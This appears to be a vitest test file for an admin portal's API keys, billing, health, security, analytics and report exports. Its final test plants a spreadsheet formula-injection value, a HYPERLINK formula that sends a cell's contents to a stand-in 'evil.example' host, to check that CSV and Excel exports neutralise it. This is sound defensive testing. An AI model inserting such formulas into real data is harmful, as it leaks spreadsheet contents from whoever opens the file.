import {
  ADMIN_OPERATION_MESSAGES,
  type AdminApiKeyCreatedResponse,
  type AdminApiKeysResponse,
  type AdminBillingOverview,
  type AdminEngagement,
  type AdminPerformance,
  type AdminSecurityOverview,
  type AdminSystemHealth,
  type AdminTraffic,
  type AdminTransactionsResponse,
} from '@atelier/contract';
import ExcelJS from 'exceljs';
import { randomUUID } from 'node:crypto';
import { desc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { signedInAdmin } from '../../../../test/helpers/admins';
import { bearer, createUser, logIn, tokenFor } from '../../../../test/helpers/factories';
import { insertLogLines } from '../../../../test/helpers/request-log';
import { createTestApp, type TestApp } from '../../../../test/helpers/test-app';
import {
  adminAuditLogs,
  creditHolds,
  generationJobs,
  paymentOrders,
  users,
} from '../../../db/schema';
import { QUEUES } from '../../../jobs/queue';
import { rollUpRequestLog } from '../../../lib/request-log-rollup';
import { createAdmin } from '../create-admin';
import { anyCode } from '../../../../test/helpers/error-code';

describe('admin portal II: API keys, billing, system health, security', () => {
  let t: TestApp;
  let full: string;
  let manage: string;
  let others: string;
  beforeAll(async () => {
    t = await createTestApp();
    full = (await signedInAdmin(t, 'full_rights')).token;
    manage = (await signedInAdmin(t, 'manage')).token;
    others = (await signedInAdmin(t, 'others')).token;
  });
  afterAll(() => t.close());

  const call = (token: string, method: 'GET' | 'POST' | 'DELETE', url: string, payload?: object) =>
    t.app.inject({ method, url, headers: bearer(token), payload });

  it('API keys: shown once, listed by prefix, act with their role, limited to 100 calls a minute, revocable, audited', async () => {
    expect((await call(manage, 'GET', '/api/admin/api-keys')).statusCode).toBe(403);
    const blank = await call(full, 'POST', '/api/admin/api-keys/generate', { key_name: '   ' });
    expect(blank.statusCode).toBe(422);
    expect(blank.json()).toEqual({
      code: anyCode,
      detail: `key_name: ${ADMIN_OPERATION_MESSAGES.keyNameRequired}`,
    });

    const created = await call(full, 'POST', '/api/admin/api-keys/generate', {
      key_name: ' Nightly report ',
      role: 'others',
    });
    expect(created.statusCode, created.body).toBe(201);
    const { key, api_key: listed } = created.json<AdminApiKeyCreatedResponse>();
    expect(key).toMatch(/^atk_[\w-]{32}$/);
    expect(listed).toMatchObject({ name: 'Nightly report', role: 'others', status: 'active' });
    expect(key.startsWith(listed.key_prefix)).toBe(true);
    const list = await call(full, 'GET', '/api/admin/api-keys');
    expect(list.body).not.toContain(key);
    expect(list.json<AdminApiKeysResponse>().api_keys[0]).toMatchObject({ id: listed.id });

    // The key acts as its role: analytics yes, users no; never on a user route.
    expect((await call(key, 'GET', '/api/admin/analytics/overview')).statusCode).toBe(200);
    expect((await call(key, 'GET', '/api/admin/users')).statusCode).toBe(403);
    expect((await call(key, 'GET', '/api/auth/me')).statusCode).toBe(401);
    const [row] = (await call(full, 'GET', '/api/admin/api-keys')).json<AdminApiKeysResponse>()
      .api_keys;
    expect(row).toMatchObject({ usage_count: 2 });
    expect(row?.last_used_at).not.toBeNull();

    // A full_rights key changing a user is recorded as the key.
    const staffKey = (
      await call(full, 'POST', '/api/admin/api-keys/generate', {
        key_name: 'Support bot',
        role: 'full_rights',
      })
    ).json<AdminApiKeyCreatedResponse>();
    const user = await createUser(t);
    const grant = await t.app.inject({
      method: 'POST',
      url: `/api/admin/users/${user.id}/credits`,
      headers: bearer(staffKey.key),
      payload: { amount: 1, reason: 'Automated goodwill' },
    });
    expect(grant.statusCode, grant.body).toBe(200);
    const [audit] = await t.runtime.db
      .select()
      .from(adminAuditLogs)
      .where(eq(adminAuditLogs.target, user.id))
      .orderBy(desc(adminAuditLogs.id))
      .limit(1);
    expect(audit).toMatchObject({
      adminId: null,
      adminEmail: `api-key:${staffKey.api_key.key_prefix}:Support bot`,
      action: 'user.credits_granted',
    });

    // 100 calls a minute, then 429 with Retry-After.
    const answers = [];
    // Two calls so far; 98 more make 100.
    for (let i = 0; i < 98; i += 1) {
      answers.push((await call(key, 'GET', '/api/admin/analytics/overview')).statusCode);
    }
    expect(answers.every((status) => status === 200)).toBe(true);
    const limited = await call(key, 'GET', '/api/admin/analytics/overview');
    expect(limited.statusCode).toBe(429);
    expect(limited.json()).toEqual({
      detail: ADMIN_OPERATION_MESSAGES.keyRateLimited,
      code: anyCode,
    });
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);

    // Revoked: the next call is refused; revoking again is a 404.
    const revoked = await call(full, 'DELETE', `/api/admin/api-keys/${listed.id}`);
    expect(revoked.json()).toEqual({ message: 'API key revoked successfully' });
    expect((await call(key, 'GET', '/api/admin/analytics/overview')).statusCode).toBe(401);
    expect((await call(full, 'DELETE', `/api/admin/api-keys/${listed.id}`)).statusCode).toBe(404);

    // A token not of a key's shape is refused without a query (issue 48).
    const query = vi.spyOn(t.runtime.db.$client, 'query');
    try {
      for (const bogus of [`atk_${'A'.repeat(15_000)}`, 'atk_short', `${key}A`]) {
        expect((await call(bogus, 'GET', '/api/admin/analytics/overview')).statusCode).toBe(401);
      }
      expect(query).not.toHaveBeenCalled();
    } finally {
      query.mockRestore();
    }
    const actions = await t.runtime.db
      .select({ action: adminAuditLogs.action })
      .from(adminAuditLogs)
      .where(eq(adminAuditLogs.target, listed.id));
    expect(actions.map((entry) => entry.action).sort()).toEqual([
      'api_key.created',
      'api_key.revoked',
    ]);
  });

  it('billing: MRR, churn and ARPU from the subscriptions and orders the test wrote', async () => {
    // The spec's "satisfied by": view_analytics (which "others" has) opens billing; a role
    // without either is refused, and none of the presets lacks both.
    expect((await call(others, 'GET', '/api/admin/billing/overview')).statusCode).toBe(200);
    const before = (
      await call(full, 'GET', '/api/admin/billing/overview')
    ).json<AdminBillingOverview>();
    const subscribe = async (plan: string, cycle: 'monthly' | 'yearly', paidDaysAgo: number) => {
      const user = await createUser(t);
      const paidAt = new Date(Date.now() - paidDaysAgo * 86_400_000);
      const months = cycle === 'yearly' ? 12 : 1;
      const endsAt = new Date(paidAt);
      endsAt.setMonth(endsAt.getMonth() + months);
      const ended = endsAt.getTime() <= Date.now();
      if (!ended) {
        await t.runtime.db
          .update(users)
          .set({
            subscriptionPlan: plan,
            subscriptionCycle: cycle,
            subscriptionEndsAt: endsAt,
            subscriptionGateway: 'razorpay',
          })
          .where(eq(users.id, user.id));
      }
      const usd =
        cycle === 'yearly'
          ? { pro: 34.9, growth: 114.9 }[plan]!
          : { pro: 3.49, growth: 11.49 }[plan]!;
      await t.runtime.db.insert(paymentOrders).values({
        userId: user.id,
        gateway: 'razorpay',
        gatewayOrderId: `order_${randomUUID()}`,
        gatewayPaymentId: `pay_${randomUUID()}`,
        kind: 'subscription',
        planId: plan,
        billingCycle: cycle,
        amountMinor: Math.round(usd * 100),
        currency: 'USD',
        description: `${plan} ${cycle}`,
        status: 'paid',
        paidAt,
      });
      return user;
    };
    await subscribe('pro', 'monthly', 1);
    await subscribe('pro', 'monthly', 2);
    await subscribe('growth', 'yearly', 3);
    const churned = await subscribe('pro', 'monthly', 45); // ended 15 days ago, not renewed
    await subscribe('pro', 'yearly', 60); // active then and now

    const after = (
      await call(manage, 'GET', '/api/admin/billing/overview')
    ).json<AdminBillingOverview>();
    expect(after.mrr - before.mrr).toBeCloseTo(2 * 3.49 + 114.9 / 12 + 34.9 / 12, 1);
    expect(after.active_subscriptions - before.active_subscriptions).toBe(4);
    // Active 30 days ago: the 45- and 60-day subscriptions; the 45-day one ended unrenewed.
    expect(after.churn_rate).toBeCloseTo(0.5, 4);
    // Three paid in 30 days: 3.49 + 3.49 + 114.90.
    expect(after.paying_users_30d - before.paying_users_30d).toBe(3);
    expect(after.arpu).toBeCloseTo((3.49 + 3.49 + 114.9) / 3, 2);
    expect(after).toMatchObject({ trial_conversion_rate: null, active_trials: null });
    expect(after.notes.join(' ')).toContain('no free trials');

    // Transactions: filters, paging, and a deleted user's order kept with no email.
    await t.runtime.db.insert(paymentOrders).values({
      userId: churned.id,
      gateway: 'paypal',
      gatewayOrderId: `paypal_${randomUUID()}`,
      kind: 'credits',
      creditsMicros: 5_000_000,
      amountMinor: 500,
      currency: 'USD',
      description: '5 credits',
      status: 'failed',
    });
    await t.runtime.db.delete(users).where(eq(users.id, churned.id));
    const failed = (
      await call(full, 'GET', '/api/admin/billing/transactions?status=failed&gateway=paypal')
    ).json<AdminTransactionsResponse>();
    expect(failed.transactions).toEqual([
      expect.objectContaining({
        user_email: null,
        item: '5 credits',
        kind: 'credits',
        amount: 5,
        status: 'failed',
        gateway: 'paypal',
      }),
    ]);
    const paged = (
      await call(full, 'GET', '/api/admin/billing/transactions?status=success&per_page=2&page=2')
    ).json<AdminTransactionsResponse>();
    expect(paged.pagination).toMatchObject({ page: 2, per_page: 2, has_prev: true });
    expect(paged.pagination.total_transactions).toBeGreaterThanOrEqual(5);
    expect(
      (await call(full, 'GET', '/api/admin/billing/transactions?from=yesterday')).statusCode,
    ).toBe(422);
  });

  it('system health: database, queues, expired holds and recent 5xx as they are', async () => {
    expect((await call(others, 'GET', '/api/admin/system/health')).statusCode).toBe(403);
    const clean = (await call(manage, 'GET', '/api/admin/system/health')).json<AdminSystemHealth>();
    expect(clean.database).toMatchObject({ status: 'ok' });
    expect(clean.database.migrations_applied).toBe(clean.database.migrations_expected);
    expect(clean.expired_holds.count).toBe(0);
    expect(clean.disk.free_bytes).toBeGreaterThan(0);
    expect(clean.process.node).toBe(process.version);
    expect(clean.storage.driver).toBe('local');
    // No self-hosted AI server is configured here (features/generation/self-hosted.test.ts has one).
    expect(clean.ai_servers).toEqual([]);
    // Every queue is listed, idle ones with zeros.
    expect(clean.queues.map((queue) => queue.name)).toEqual(
      expect.arrayContaining(Object.values(QUEUES)),
    );
    expect(clean.queues.find((queue) => queue.name === QUEUES.generateVideo)).toMatchObject({
      waiting: 0,
      active: 0,
      oldest_waiting_seconds: null,
    });

    const user = await createUser(t);
    await t.runtime.db.insert(creditHolds).values({
      userId: user.id,
      amountMicros: 1,
      displayType: 'other',
      description: 'stuck',
      reference: 'test',
      expiresAt: new Date(Date.now() - 60_000),
    });
    await insertLogLines(t.runtime.db, [
      {
        userId: user.id,
        method: 'POST',
        path: '/api/generate-image',
        status: 503,
        durationMs: 12,
        ip: '127.0.0.1',
      },
    ]);
    const health = (await call(full, 'GET', '/api/admin/system/health')).json<AdminSystemHealth>();
    expect(health.status).toBe('degraded');
    expect(health.expired_holds.count).toBe(1);
    expect(health.recent_errors[0]).toMatchObject({ path: '/api/generate-image', status: 503 });
    await t.runtime.db.execute(sql`DELETE FROM credit_holds WHERE description = 'stuck'`);
  });

  it('security overview: failed sign-ins, two-factor share, sessions, staff without MFA', async () => {
    expect((await call(manage, 'GET', '/api/admin/security/overview')).statusCode).toBe(403);
    const user = await createUser(t);
    await tokenFor(t, user);
    await logIn(t, { email: user.email, password: 'wrong-password' });
    const pending = await createAdmin(t.runtime.db, {
      email: `pending-${Date.now()}@example.com`,
      password: 'Pending-admin-passphrase',
    });
    const response = await call(full, 'GET', '/api/admin/security/overview');
    expect(response.statusCode, response.body).toBe(200);
    const overview = response.json<AdminSecurityOverview>();
    expect(overview.failed_sign_ins_24h.users).toBeGreaterThanOrEqual(1);
    expect(overview.active_sessions).toBeGreaterThanOrEqual(1);
    expect(overview.two_factor_share).toBeGreaterThanOrEqual(0);
    expect(overview.staff_without_mfa).toContainEqual({ id: pending.id, email: pending.email });
    expect(overview.recent_audit[0]?.action).toBe('admin.created');
  });

  it('analytics: traffic, latency percentiles, generation outcomes and engagement from written data', async () => {
    const day = (daysAgo: number) => new Date(Date.now() - daysAgo * 86_400_000);
    const period = (date: Date) => date.toISOString().slice(0, 10);
    const user = await createUser(t, { plan: 'growth' });
    // 100 requests three days ago, 1..100 ms, five of them 5xx.
    await insertLogLines(
      t.runtime.db,
      Array.from({ length: 100 }, (_, index) => ({
        userId: user.id,
        method: 'GET',
        path: '/api/auth/me',
        status: index < 5 ? 503 : 200,
        durationMs: index + 1,
        ip: '127.0.0.1',
        createdAt: day(3),
      })),
    );
    const job = (status: string, seconds: number) => ({
      id: randomUUID(),
      userId: user.id,
      kind: 'image',
      tool: 'image.analytics-test',
      prompt: 'p',
      input: {},
      status,
      createdAt: new Date(Date.now() - seconds * 1000),
      finishedAt: new Date(),
      deadlineAt: new Date(Date.now() + 60_000),
    });
    await t.runtime.db
      .insert(generationJobs)
      .values([job('succeeded', 10), job('succeeded', 10), job('succeeded', 10), job('failed', 3)]);

    const traffic = await call(others, 'GET', '/api/admin/analytics/traffic?time_range=7d');
    expect(traffic.statusCode, traffic.body).toBe(200);
    const points = traffic.json<AdminTraffic>().points;
    expect(points).toHaveLength(7);
    const threeDaysAgo = points.find((point) => point.period === period(day(3)));
    expect(threeDaysAgo).toMatchObject({ requests: 100, active_users: 1 });
    expect(points.at(-1)!.signups).toBeGreaterThanOrEqual(1);
    const year = (
      await call(full, 'GET', '/api/admin/analytics/traffic?time_range=12m')
    ).json<AdminTraffic>();
    expect(year).toMatchObject({ bucket: 'month' });
    expect(year.points).toHaveLength(12);
    expect(year.points.at(-1)!.period).toBe(new Date().toISOString().slice(0, 7));
    expect((await call(full, 'GET', '/api/admin/analytics/traffic?time_range=2w')).statusCode).toBe(
      422,
    );

    // Rolled up (as the hourly sweep does), the finished days no longer need their raw rows.
    expect(await rollUpRequestLog(t.runtime.db)).toBeGreaterThanOrEqual(1);
    expect(await rollUpRequestLog(t.runtime.db)).toBe(0);
    const rolled = (
      await call(full, 'GET', '/api/admin/analytics/traffic?time_range=7d')
    ).json<AdminTraffic>();
    expect(rolled.points).toEqual(points);

    const perf = (
      await call(full, 'GET', '/api/admin/analytics/performance?time_range=7d')
    ).json<AdminPerformance>();
    expect(perf.latency.find((point) => point.period === period(day(3)))).toEqual({
      period: period(day(3)),
      requests: 100,
      p50_ms: 50.5,
      p95_ms: 95.1, // interpolated: 1 + 0.95 x 99 = 95.05
      p99_ms: 99,
      error_rate: 0.05,
    });
    expect(perf.generation.find((row) => row.tool === 'image.analytics-test')).toMatchObject({
      jobs: 4,
      succeeded: 3,
      failed: 1,
      success_rate: 0.75,
    });
    expect(
      perf.generation.find((row) => row.tool === 'image.analytics-test')!.mean_duration_seconds,
    ).toBeCloseTo(10, 0);

    await t.runtime.db.execute(
      sql`DELETE FROM api_request_log_batches WHERE last_at < now() - interval '2 days'`,
    );
    const afterRetention = (
      await call(full, 'GET', '/api/admin/analytics/traffic?time_range=7d')
    ).json<AdminTraffic>();
    expect(afterRetention.points.find((point) => point.period === period(day(3)))).toMatchObject({
      requests: 100,
      active_users: 1,
    });

    const engagement = (
      await call(full, 'GET', '/api/admin/analytics/engagement')
    ).json<AdminEngagement>();
    expect(engagement.feature_use_by_plan).toContainEqual({
      plan: 'growth',
      feature: 'image',
      uses: 3,
    });
    expect(engagement.top_tools).toContainEqual({ tool: 'image.analytics-test', uses: 3 });
    expect(engagement.cohorts).toHaveLength(8);
    const thisWeek = engagement.cohorts.at(-1)!;
    expect(thisWeek.size).toBeGreaterThanOrEqual(1);
    expect(thisWeek.retention).toHaveLength(1);
  });

  it('reports: every type in CSV, Excel and PDF for a period; bad bodies are 422', async () => {
    const user = await createUser(t);
    await call(full, 'POST', `/api/admin/users/${user.id}/credits`, {
      amount: 2.5,
      reason: 'Report check',
    });
    const today = new Date().toISOString().slice(0, 10);
    const exportAs = (body: object, token = full) =>
      t.app.inject({
        method: 'POST',
        url: '/api/admin/reports/export',
        headers: bearer(token),
        payload: body,
      });

    const csv = await exportAs({ report_type: 'credits', format: 'csv' });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(
      /^attachment; filename="credits-report-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const lines = csv.body.trim().split('\n');
    expect(lines[0]).toBe('Time,User,Team wallet,Entry,Amount,Balance after,Description');
    expect(lines.some((line) => line.includes(user.email) && line.includes(',2.5,'))).toBe(true);

    const excel = await exportAs({ report_type: 'users', format: 'excel', from: today, to: today });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(excel.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.getRow(1).getCell(2).value).toBe('Email');
    const emails = sheet.getColumn(2).values;
    expect(emails).toContain(user.email);

    const pdf = await exportAs({ report_type: 'audit', format: 'pdf' });
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.rawPayload.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(pdf.rawPayload.subarray(-6).toString('latin1')).toContain('%%EOF');

    for (const type of ['revenue', 'usage']) {
      for (const format of ['csv', 'excel', 'pdf']) {
        const answer = await exportAs({ report_type: type, format });
        expect(answer.statusCode, `${type} ${format}`).toBe(200);
        expect(answer.rawPayload.length).toBeGreaterThan(0);
      }
    }

    // A period with nothing in it is an empty report, not an error.
    const empty = await exportAs({
      report_type: 'users',
      format: 'csv',
      from: '2001-01-01',
      to: '2001-01-31',
    });
    expect(empty.body.trim()).toBe('Signed up,Email,Name,Plan,Active,Credits,Last login');

    for (const bad of [
      { report_type: 'sales', format: 'csv' },
      { report_type: 'users', format: 'docx' },
      { report_type: 'users', format: 'csv', from: '2026-02-30x' },
      { report_type: 'users', format: 'csv', from: '2026-03-01', to: '2026-02-01' },
    ]) {
      expect((await exportAs(bad)).statusCode, JSON.stringify(bad)).toBe(422);
    }
    // The export is audited once its last row is written, just after the answer ends.
    const lastExport = async () =>
      (
        await t.runtime.db
          .select()
          .from(adminAuditLogs)
          .where(eq(adminAuditLogs.action, 'report.exported'))
          .orderBy(desc(adminAuditLogs.id))
          .limit(1)
      )[0]?.summary;
    await expect
      .poll(lastExport)
      .toMatchObject({ report_type: 'users', format: 'csv', rows: 0, from: '2001-01-01' });
  });

  it('reports: text a spreadsheet would run as a formula is written as text, numbers as numbers', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const user = await createUser(t);
    await t.runtime.db.update(users).set({ fullName: name }).where(eq(users.id, user.id));
    await call(full, 'POST', `/api/admin/users/${user.id}/credits`, { amount: 3, reason: 'x' });
    await call(full, 'POST', `/api/admin/users/${user.id}/credits`, {
      amount: -1.25,
      reason: '@SUM(1+1)',
    });
    const exportAs = (body: object) =>
      t.app.inject({
        method: 'POST',
        url: '/api/admin/reports/export',
        headers: bearer(full),
        payload: body,
      });

    const signups = (await exportAs({ report_type: 'users', format: 'csv' })).body.split('\n');
    const row = signups.find((line) => line.includes(user.email));
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);

    const ledger = (await exportAs({ report_type: 'credits', format: 'csv' })).body.split('\n');
    const deduction = ledger.find((line) => line.includes(user.email) && line.includes('-1.25'));
    expect(deduction).toMatch(
      /,adjustment,-1\.25,1\.75,Credits deducted by support: @SUM\(1\+1\)$/,
    );

    // An xlsx cell holds the name as a string value (no <f> formula): Excel shows it, never runs it.
    const excel = await exportAs({ report_type: 'users', format: 'excel' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(excel.rawPayload as unknown as ArrayBuffer);
    const names = workbook.worksheets[0].getColumn(3).values;
    expect(names).toContain(name);
  });
});
